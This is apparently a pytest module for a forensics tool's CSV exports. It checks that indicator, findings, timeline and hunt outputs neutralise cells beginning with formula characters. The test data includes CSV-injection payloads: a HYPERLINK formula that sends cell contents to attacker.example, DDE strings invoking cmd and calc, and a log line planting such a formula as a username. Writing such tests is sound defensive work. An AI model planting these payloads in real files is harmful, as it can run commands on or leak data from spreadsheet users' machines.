"""CSV formula injection: no exported cell may start with ``= + - @``, tab or CR.

Every CSV the desk writes is covered: the indicator export (page and API), the findings
CSV and the Timesketch timeline of ``madoguchi analyze`` (and their renderers, header
included), and ``madoguchi hunt --format csv``. Each test plants cells that a
spreadsheet would run and checks they come out with a leading ``'``.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import typer
from tests.conftest import LiveServer
from tests.web.client import new_client, sign_in
from tests.world import PASSWORD, build_world
from typer.testing import CliRunner

from madoguchi.analysis.render.sheet import render_findings_csv
from madoguchi.analysis.render.timesketch import render_timesketch_csv
from madoguchi.analysis.result import (
    EvidenceRecord,
    FindingRecord,
    ResultDocument,
    TimelineRecord,
)
from madoguchi.cli import analyze_cmd, hunt_cmd
from madoguchi.domain.indicator import Indicator, IndicatorSource, IndicatorType, SourceKind
from madoguchi.domain.tlp import TLP
from madoguchi.ports import StoredSighting

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def unguarded(text: str) -> list[str]:
    """Cells a spreadsheet would read as a formula."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row}


def test_indicator_exports_guard_every_cell(live_server: LiveServer) -> None:
    desk = live_server.desk
    world = build_world(desk)
    seen = datetime(2026, 3, 2, tzinfo=UTC)
    with desk.uow_factory() as uow:
        stored = uow.indicators.upsert(
            Indicator(
                type=IndicatorType.DOMAIN,
                value="update-check.example",
                tlp=TLP.AMBER,
                source=IndicatorSource(SourceKind.ANALYZER, "-panos"),
                tags=("+tag",),
                description=HYPERLINK,
                first_seen=seen,
                last_seen=seen,
            )
        )
        assert stored.id is not None
        uow.indicators.add_sighting(
            StoredSighting(
                indicator_id=stored.id,
                case_id=world.case_a,
                evidence_id=world.evidence_a,
                first_seen=seen,
            )
        )
        uow.commit()
    with new_client(live_server.url) as client:
        sign_in(client, world.people["party_reporter"].email, PASSWORD)
        page = client.get(f"/cases/{world.case_a}/indicators.csv")
    api = new_client(live_server.url)
    api.headers["Authorization"] = f"Bearer {world.people['party_reporter'].token}"
    with api:
        exported = api.get(f"/api/v1/cases/{world.case_a}/indicators", params={"format": "csv"})
    for response in (page, exported):
        assert response.status_code == 200
        assert unguarded(response.text) == []
        assert {"'" + HYPERLINK, "'+tag"} <= cells(response.text)


def test_findings_and_timeline_renderers_guard_every_cell() -> None:
    where = EvidenceRecord(path="\t=logs/auth.log", line=3)
    document = ResultDocument(
        findings=(
            FindingRecord(
                analyzer="linux_auth",
                rule_id="-rule",
                title=HYPERLINK,
                severity="high",
                timestamp="2026-03-02T01:00:00Z",
                host="@host",
                account="+account",
                description="\rdescription",
                evidence=where,
            ),
        ),
        timeline=(
            TimelineRecord(
                timestamp="2026-03-02T00:59:00Z",
                source="linux:auth",
                message=DDE,
                account="=account",
                evidence=where,
                attributes={"=HYPERLINK(1)": "-1+2", "program": "@sshd"},
            ),
        ),
    )
    findings = render_findings_csv(document).decode("utf-8")
    timeline = render_timesketch_csv(document).decode("utf-8")
    assert unguarded(findings) == []
    assert unguarded(timeline) == []
    assert {"'" + HYPERLINK, "'@host", "'+account", "'\t=logs/auth.log"} <= cells(findings)
    # An attribute name from the evidence becomes a column header: guarded too.
    assert {"'" + DDE, "'=account", "'=HYPERLINK(1)", "'-1+2", "'@sshd"} <= cells(timeline)


def test_analyze_csv_outputs_of_a_hostile_log(tmp_path: Path) -> None:
    folder = tmp_path / "case"
    folder.mkdir()
    user = "=2+5*cmd|x!A0"
    (folder / "auth.log").write_text(
        "".join(
            f"Nov 20 10:00:0{i} web01 sshd[42]: Failed password for invalid user {user} "
            f"from 203.0.113.5 port 5{i}22 ssh2\n"
            for i in range(8)
        )
        + f"Nov 20 10:01:00 web01 sshd[42]: Accepted password for {user} from 203.0.113.5 "
        "port 5999 ssh2\n"
    )
    app = typer.Typer()
    analyze_cmd.register(app)
    findings, timeline = tmp_path / "findings.csv", tmp_path / "timeline.csv"
    result = CliRunner().invoke(
        app,
        [
            "analyze",
            str(folder),
            "--analyzer",
            "linux_auth",
            "-q",
            "--format",
            "csv",
            "--out",
            str(findings),
            "--timeline-out",
            str(timeline),
        ],
    )
    assert result.exit_code == 0, result.output
    for written in (findings, timeline):
        text = written.read_text("utf-8-sig")
        assert unguarded(text) == []
        assert "'" + user in cells(text), f"the planted account is not in {written.name}"


def test_hunt_csv_guards_the_matched_context(tmp_path: Path) -> None:
    iocs = tmp_path / "iocs.txt"
    iocs.write_text("evil.com\n")
    logs = tmp_path / "logs"
    logs.mkdir()
    line = '=HYPERLINK("http://evil.com/")'
    (logs / "proxy.log").write_text(f"{line}\n")
    app = typer.Typer()
    hunt_cmd.register(app)

    @app.callback()
    def main() -> None:
        """Test application."""

    result = CliRunner().invoke(app, ["hunt", "--iocs", str(iocs), str(logs), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert unguarded(result.stdout) == []
    assert "'" + line in cells(result.stdout)
